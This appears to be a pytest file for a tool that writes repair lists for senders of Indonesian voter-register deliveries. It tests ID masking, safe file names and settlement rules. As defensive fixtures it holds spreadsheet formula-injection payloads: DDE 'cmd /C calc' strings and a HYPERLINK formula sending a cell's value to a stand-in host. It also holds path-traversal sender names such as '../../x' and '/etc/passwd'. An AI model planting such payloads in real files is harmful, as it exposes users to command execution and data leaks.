"""Back to the sender: the lists say what is to be repaired, run nothing, name nobody, and go away when all is well."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from orchestration.ledger.store import Ledger
from orchestration.perbaikan import files, items
from orchestration.settings import Settings
from orchestration.spreadsheets import harmless

EXPORT = "kpu__daftar_pemilih_dn"
NIK = "33" + "08" + "0" * 8 + "1234"  # of nobody
HOSTILE = [
    '=HYPERLINK("http://contoh.invalid?x="&A1;"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' "=1+1',
    "＝1+1",
    'x";=1+1',
    "x,=1+1",
    "x\t@SUM(1)",
    "{=1+1}",
    "https://contoh.invalid/",
    "\x00\x01\x1f_x0041_",
]


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(data=tmp_path / "data")


@pytest.fixture
def ledger(settings: Settings) -> Ledger:
    return Ledger(settings.ledger)


def deliver(
    ledger: Ledger,
    name: str,
    *,
    verdict: str = "ditolak",
    findings: list[dict[str, Any]] | None = None,
    lingkup: str | None = "NID",
    **values: Any,
) -> None:
    """Records a delivery, its verdict, and (unless it was accepted) one reason."""
    order = len(ledger.deliveries()) + 1
    row = {
        "delivery_id": name, "sha256": f"{order:064d}", "export": EXPORT, "pengirim": "KPU RI",
        "periode": "PEMILU2024/DPT", "nama_berkas": "opendata_dpt_dn_pemilu2024.xlsx", "ukuran_bita": 1,
        "diterima_pada": f"2023-07-{order:02d}T00:00:00", "diterima_dinyatakan": 0, **values,
    }  # fmt: skip
    reasons = findings if findings is not None else ([{}] if verdict == "ditolak" else [])
    ledger.append("delivery", [row])
    ledger.append_all(
        [
            (
                "verdict",
                [
                    {
                        "verdict_id": f"V{name}", "delivery_id": name, "judgement_key": "k", "verdict": verdict,
                        "lingkup": lingkup, "baris": 5, "baris_diterima": 0 if verdict == "ditolak" else 5,
                        "batch_id": "B1",
                    }
                ],
            ),
            (
                "finding",
                [
                    {
                        "verdict_id": f"V{name}", "nomor": number, "aturan": "l_plus_p", "tingkat": "critical",
                        "lembar": "DN", "baris_sumber": 7, "kolom": "laki_laki", "nilai": "12",
                        "pesan": "L + P bukan jumlah.", "perbaikan": "Betulkan.", **finding,
                    }
                    for number, finding in enumerate(reasons, 1)
                ],
            ),
        ]
    )  # fmt: skip


def asked(ledger: Ledger) -> dict[str, list[str]]:
    """Deliveries that each sender is asked to repair."""
    return {item.pengirim: [row.kiriman for row in item.perbaiki] for item in items.lists(ledger)}


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def test_a_list_says_file_sheet_row_column_value_rule_and_remedy(settings: Settings, ledger: Ledger):
    deliver(ledger, "D1", findings=[{}, {"tingkat": "warning", "pesan": "Total tidak tersimpan."}])
    (done,) = files.write(settings, ledger)
    assert done.workbook == settings.root / "perbaikan" / "kpu-ri.xlsx"
    assert done.csv == settings.root / "perbaikan" / "kpu-ri.csv"

    book = openpyxl.load_workbook(done.workbook)
    assert book.sheetnames == ["Cara membaca", "Perbaiki", "Catatan"]
    guide = {row[0].value: row[1].value for row in book["Cara membaca"]}
    assert guide["Daftar perbaikan untuk"] == "KPU RI"
    assert str(guide["Harus diperbaiki"]).startswith("1 hal di dalam 1 berkas")
    head, row = book["Perbaiki"].iter_rows(values_only=True)
    seen = dict(zip(head, row, strict=True))
    assert seen["Berkas"] == "opendata_dpt_dn_pemilu2024.xlsx"
    assert (seen["Lembar"], seen["Baris"], seen["Nilai tertulis"]) == ("DN", 7, "12")
    assert seen["Kolom"] == "Laki-Laki", "the sender knows the heading of its own file, not our name for it"
    assert (seen["Apa yang salah"], seen["Yang harus dilakukan"]) == ("L + P bukan jumlah.", "Betulkan.")
    assert (seen["Aturan"], seen["Akibat"]) == ("l plus p", "seluruh berkas ditolak")
    assert book["Perbaiki"].freeze_panes == "A2" and book["Perbaiki"].auto_filter.ref
    assert [cell.value for cell in book["Catatan"]["F"]] == ["Apa yang salah", "Total tidak tersimpan."]

    assert done.csv.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = csv_rows(done.csv)
    assert [row["bagian"] for row in rows] == ["perbaiki", "catatan"]
    assert rows[0]["apa_yang_salah"] == "L + P bukan jumlah." and rows[0]["baris"] == "7"


def test_a_refused_row_of_an_accepted_register_is_to_be_repaired_too(settings: Settings, ledger: Ledger):
    deliver(ledger, "D1", verdict="diterima_dengan_catatan", findings=[{}])
    (item,) = items.lists(ledger)
    assert item.perbaiki[0].akibat == "baris ini ditolak"


@pytest.mark.parametrize("field", ["nilai", "pesan", "perbaikan", "kolom", "lembar"])
def test_opening_a_list_executes_nothing(settings: Settings, ledger: Ledger, field: str):
    deliver(ledger, "D1", findings=[{field: value} for value in HOSTILE], nama_berkas="=1+1.xlsx")
    (done,) = files.write(settings, ledger)

    for row in (cell for sheet in openpyxl.load_workbook(done.workbook) for line in sheet for cell in line):
        assert row.data_type in ("s", "n"), (row.coordinate, row.value)
        assert row.hyperlink is None
    place = [name for name in files._COLUMNS].index(field)
    shown = CalamineWorkbook.from_path(str(done.workbook)).get_sheet_by_name("Perbaiki").to_python()
    assert [row[place] for row in shown[1:5]] == HOSTILE[:4], "the workbook shows what was written, as text"

    raw = done.csv.read_text(encoding="utf-8-sig")
    for separator in ";,\t|":  # a spreadsheet of another locale splits at another mark
        for line in csv.reader(raw.splitlines(), delimiter=separator):
            for cell in line:
                assert not cell.lstrip(' "').startswith(tuple("=+-@＝＋－＠\t\r\n")), (separator, cell)
    assert len(csv_rows(done.csv)) == len(HOSTILE), "one item is one line"


def test_harmless_leaves_plain_text_and_numbers_alone():
    for value in ("Kab. Magelang", "12,5", "a-b", "x = y", "L + P, bukan jumlah", "", None, 7, -7):
        assert harmless(value) == value
    assert harmless("=1") == "'=1" and harmless(harmless("=1;=2")) == harmless("=1;=2")


def test_identifiers_are_masked_in_cells_and_in_the_names_of_the_files(settings: Settings, ledger: Ledger):
    deliver(
        ledger, "D1", pengirim=f"Kantor {NIK}", nama_berkas=f"dpt_{NIK}.xlsx",
        findings=[{"nilai": NIK, "pesan": f"NIK {NIK} ganda", "perbaikan": f"Hapus {NIK}", "lembar": NIK,
                   "kolom": f"k{NIK}"}],
    )  # fmt: skip
    (done,) = files.write(settings, ledger)
    assert NIK not in done.workbook.name and NIK not in done.csv.read_text(encoding="utf-8-sig")
    for sheet in CalamineWorkbook.from_path(str(done.workbook)).sheet_names:
        rows = CalamineWorkbook.from_path(str(done.workbook)).get_sheet_by_name(sheet).to_python()
        assert NIK not in str(rows)
    assert "[disamarkan]" in csv_rows(done.csv)[0]["nilai_tertulis"]


def test_no_sender_leaves_the_folder_or_overwrites_another(settings: Settings, ledger: Ledger):
    names = ["../../x", "/etc/passwd", "CON", "nul", "", "..", "KPU RI", "KPU-RI", "kpu ri", "Å" * 300, "Ä" * 300,
             "a" * 200 + "1", "a" * 200 + "2", "選挙", "a\x00b", "pengirim"]  # fmt: skip
    for number, name in enumerate(names):
        deliver(ledger, f"D{number}", pengirim=name)
    written = files.write(settings, ledger)
    paths = [path for done in written for path in (done.workbook, done.csv)]
    assert len(written) == len(names) and len({path.name.lower() for path in paths}) == 2 * len(names)
    assert {path.name for path in (settings.root / "perbaikan").iterdir()} == {path.name for path in paths}
    for path in paths:
        assert path.parent == settings.root / "perbaikan" and path.is_file() and len(path.name) <= 120
        assert path.stem not in ("con", "nul")
    for done in written:
        assert csv_rows(done.csv)[0]["kiriman"] == done.list.perbaiki[0].kiriman


def test_a_refusal_is_settled_by_a_later_delivery_of_its_slot(ledger: Ledger):
    deliver(ledger, "D1")
    assert asked(ledger) == {"KPU RI": ["D1"]}
    deliver(ledger, "D2")
    assert asked(ledger) == {"KPU RI": ["D2"]}, "the newer list is the one to work from"
    deliver(ledger, "D3", verdict="diterima")
    assert asked(ledger) == {}
    deliver(ledger, "D4")
    assert asked(ledger) == {"KPU RI": ["D4"]}, "refused after something was accepted: the newer figures are missing"


def test_another_scope_period_or_sender_settles_nothing(ledger: Ledger):
    deliver(ledger, "D1", lingkup="W33")
    deliver(ledger, "D2", verdict="diterima", lingkup="W34")
    deliver(ledger, "D3", verdict="diterima", lingkup="W33", periode="PEMILU2024/DPS")
    deliver(ledger, "D4", verdict="diterima", lingkup="W33", pengirim="KPU Provinsi Contoh")
    assert asked(ledger) == {"KPU RI": ["D1"]}


def test_where_a_file_could_not_be_read_its_name_says_what_it_speaks_for(ledger: Ledger):
    deliver(ledger, "D1", lingkup=None, nama_berkas="opendata_dpt_dn_pemilu2024_jateng.xlsx")
    deliver(ledger, "D2", verdict="diterima", lingkup="W35", nama_berkas="opendata_dpt_dn_pemilu2024_jatim.xlsx")
    assert asked(ledger) == {"KPU RI": ["D1"]}
    deliver(ledger, "D3", verdict="diterima", lingkup="W33", nama_berkas="opendata_dpt_dn_pemilu2024_jateng.xlsx")
    assert asked(ledger) == {}


def test_an_unknown_name_is_settled_when_its_bytes_come_under_a_known_one(ledger: Ledger):
    unknown: dict[str, Any] = {"export": "tidak_dikenal", "pengirim": "tidak dikenal", "lingkup": None}
    deliver(ledger, "D1", sha256="a" * 64, periode="daftar.xlsx", nama_berkas="daftar.xlsx", **unknown)
    deliver(ledger, "D2", sha256="b" * 64, periode="lain.xlsx", nama_berkas="lain.xlsx", **unknown)
    deliver(ledger, "D3", sha256="a" * 64, verdict="diterima")
    assert asked(ledger) == {"tidak dikenal": ["D2"]}


def test_two_offices_with_the_same_bytes_are_both_asked(ledger: Ledger):
    deliver(ledger, "D1", sha256="a" * 64, pengirim="KPU Kabupaten Contoh Barat (00.01)")
    deliver(ledger, "D2", sha256="a" * 64, pengirim="KPU Kabupaten Contoh Timur (00.02)")
    assert len(asked(ledger)) == 2


def test_a_list_goes_when_nothing_is_left_and_what_is_not_ours_stays(settings: Settings, ledger: Ledger):
    deliver(ledger, "D1", verdict="ditolak")
    folder = settings.root / "perbaikan"
    files.write(settings, ledger)
    (folder / "Catatan saya.txt").write_text("milik orang")
    (folder / ".kpu-ri.xlsx.part").write_text("terputus")
    deliver(ledger, "D2", verdict="diterima_dengan_catatan", findings=[{"tingkat": "warning"}])
    assert files.write(settings, ledger) == [], "notes alone ask for nothing"
    assert [path.name for path in folder.iterdir()] == ["Catatan saya.txt"]


def test_a_very_long_list_is_cut_in_the_workbook_and_whole_in_the_csv(
    settings: Settings, ledger: Ledger, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(files, "MOST_ROWS", 3)
    deliver(ledger, "D1", findings=[{"perbaikan": "x" * 40_000}] * 5)
    (done,) = files.write(settings, ledger)
    book = openpyxl.load_workbook(done.workbook)
    assert book["Perbaiki"].max_row == 4 and len(csv_rows(done.csv)) == 5
    assert any("semuanya ada di berkas CSV" in str(row[1].value) for row in book["Cara membaca"])
